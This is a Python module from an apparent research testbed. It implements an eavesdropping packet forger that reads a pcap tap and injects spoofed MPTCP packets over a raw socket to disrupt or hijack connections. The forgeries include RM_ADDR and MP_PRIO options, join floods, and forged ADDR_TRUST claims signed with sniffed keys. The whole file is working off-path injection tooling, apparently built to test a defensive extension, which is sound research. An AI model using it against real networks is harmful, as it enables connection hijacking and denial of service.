"""An eavesdropping forger that tries packet shapes one after another, run in an attacker
host. It loads scapy once and answers one command per stdin line:

    python -m experiments.forger --tap PCAP --victim ADDR ... --peer ADDR ...
                                 --attacker ADDR [--removed-id N ...] [--seed N]
    stdin:  ATTACK SHAPE [now]  (an option attack of experiments.attacks or ``claim``, a
                                 shape of experiments.shapes; join_flood takes no shape;
                                 with ``now`` it strikes at once instead of in a lull)
    stdout: one JSON line per command: what it sent

Before each command it reads the tap again and waits for a lull (attacks.eavesdrop), so
every forgery carries the peer's latest sequence numbers and timestamps (``now``: what
the tap holds at that moment, for attacks during a transfer); it adds what its
own earlier forgeries consumed (payload bytes, a FIN) to the sequence numbers it uses.
Every forged packet has IP ID attacks.TAG.

``claim`` attacks the extension: an ADDR_TRUST in the peer's name saying that the
eavesdropped address is protected (signed with the keys read from the first subflow, a
counter above any real one), in the shape asked for; CLAIM_SETTLE later, once the
victim's agent would have taken it, an MP_PRIO in the same shape on the same subflows,
which the victim acts on only if that subflow is no longer in enforcement's scope.
Started with ``--victim`` the peer's addresses and ``--peer`` the eavesdropped host's.
"""

from __future__ import annotations

import argparse
import json
import random
import socket
import sys
import time

from experiments import attacks
from experiments.shapes import PAYLOAD, SHAPES

CLAIM_SETTLE = 0.01  # s: the victim's agent reads the claim and updates its classifier


def forge(
    attack: str,
    shape: str,
    k: attacks.Knowledge,
    args,
    rng: random.Random,
    advance: dict,
    now: float,
) -> list:
    """The packets of one command; ``advance``: sequence space our forgeries used."""
    if attack == "join_flood":
        port = k.server_port or args.port
        sources = sorted({t[2] for t in k.last_from_peer}) or args.victim
        targets = sorted({t[0] for t in k.last_from_peer}) or args.peer
        return attacks.join_flood(k, sources, targets, port, rng)
    if attack != "claim":
        option = attacks.option_for(attack, k, args.attacker, rng, tuple(args.removed_id))
    out = []
    for four, seen in k.last_from_peer.items():
        if attack == "claim":
            option = attacks.claim_for(seen, k, args.counter, args.addr_trust_subtype)
            if option is None:  # no keys, no signature: nothing worth sending
                continue
        base = attacks.segment_after(seen, option, now)
        base["TCP"].seq = (base["TCP"].seq + advance.get(four, 0)) & 0xFFFFFFFF
        out += SHAPES[shape](base, option)
        advance[four] = advance.get(four, 0) + {"payload": len(PAYLOAD), "fin": 1}.get(shape, 0)
    return out


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(
        prog="python -m experiments.forger", description=__doc__.split("\n")[0]
    )
    ap.add_argument("--tap", required=True, help="pcap of the eavesdropped path")
    ap.add_argument("--victim", action="append", required=True)
    ap.add_argument("--peer", action="append", required=True)
    ap.add_argument("--attacker", required=True)
    ap.add_argument("--port", type=int, default=5201, help="the peer's listening port")
    ap.add_argument(
        "--removed-id",
        type=int,
        action="append",
        default=[],
        help="address IDs a forged RM_ADDR names (default: every ID in use)",
    )
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument(
        "--addr-trust-subtype",
        type=int,
        default=attacks.ADDR_TRUST_DEFAULT,
        help="the MPTCP subtype the agents use for ADDR_TRUST",
    )
    args = ap.parse_args(argv)
    args.counter = attacks.CLAIM_COUNTER
    args.removed_id = args.removed_id or list(attacks.REMOVED_IDS)
    # One raw IP socket for the whole run (the kernel routes, resolves the next hop and
    # sends our headers as they are): scapy's send() opens a socket per call, which put
    # some 50 ms between deciding to strike and the packet on the wire.
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    rng, advance = random.Random(args.seed), {}
    victim, peer = set(args.victim), set(args.peer)
    # The tap is read on from where it stopped: a command costs what was written since.
    tap, learner = attacks.TapFollower(args.tap), attacks.Learner(victim, peer)
    # scapy's layers load on first use, some 150 ms: before the connection starts, not in
    # its first moments.
    from scapy.layers.inet import IP, TCP, fragment

    bytes(fragment(IP(dst=args.victim[0]) / TCP(options=[("NOP", None)]), fragsize=8)[0])
    print("ready", flush=True)
    for line in sys.stdin:
        words = line.split()
        if not words:
            continue
        attack, shape = words[0], (words[1:] or ["plain"])[0]
        patience = 0.0 if words[2:3] == ["now"] else attacks.PATIENCE
        if attack == "join_flood":
            shape = "plain"  # one shape: the flood
        if attack not in attacks.ALL_ATTACKS or shape not in SHAPES:
            print(
                json.dumps(
                    {
                        "error": f"unknown attack or shape: {line.strip()!r}; attacks "
                        f"{', '.join(attacks.ALL_ATTACKS)}; shapes {', '.join(SHAPES)}"
                    }
                ),
                flush=True,
            )
            continue
        try:
            k = attacks.eavesdrop(tap, victim, peer, patience=patience, learner=learner)

            packets = forge(attack, shape, k, args, rng, advance, time.time())
            sent_at = time.time()
            for pkt in packets:
                sock.sendto(bytes(pkt), (pkt["IP"].dst, 0))
            if attack == "claim":
                args.counter += 1  # the next claim must be fresh too
                if packets:
                    time.sleep(CLAIM_SETTLE)
                    prio = forge("mp_prio", shape, k, args, rng, advance, time.time())
                    for pkt in prio:
                        sock.sendto(bytes(pkt), (pkt["IP"].dst, 0))
                    packets += prio
        except (OSError, ValueError) as e:
            print(json.dumps({"error": str(e)}), flush=True)
            continue
        print(
            json.dumps(
                {
                    "attack": attack,
                    "shape": shape,
                    "sent": len(packets),
                    "sent_at": sent_at,
                    **k.summary(),
                }
            ),
            flush=True,
        )
    return 0


if __name__ == "__main__":
    sys.exit(main())
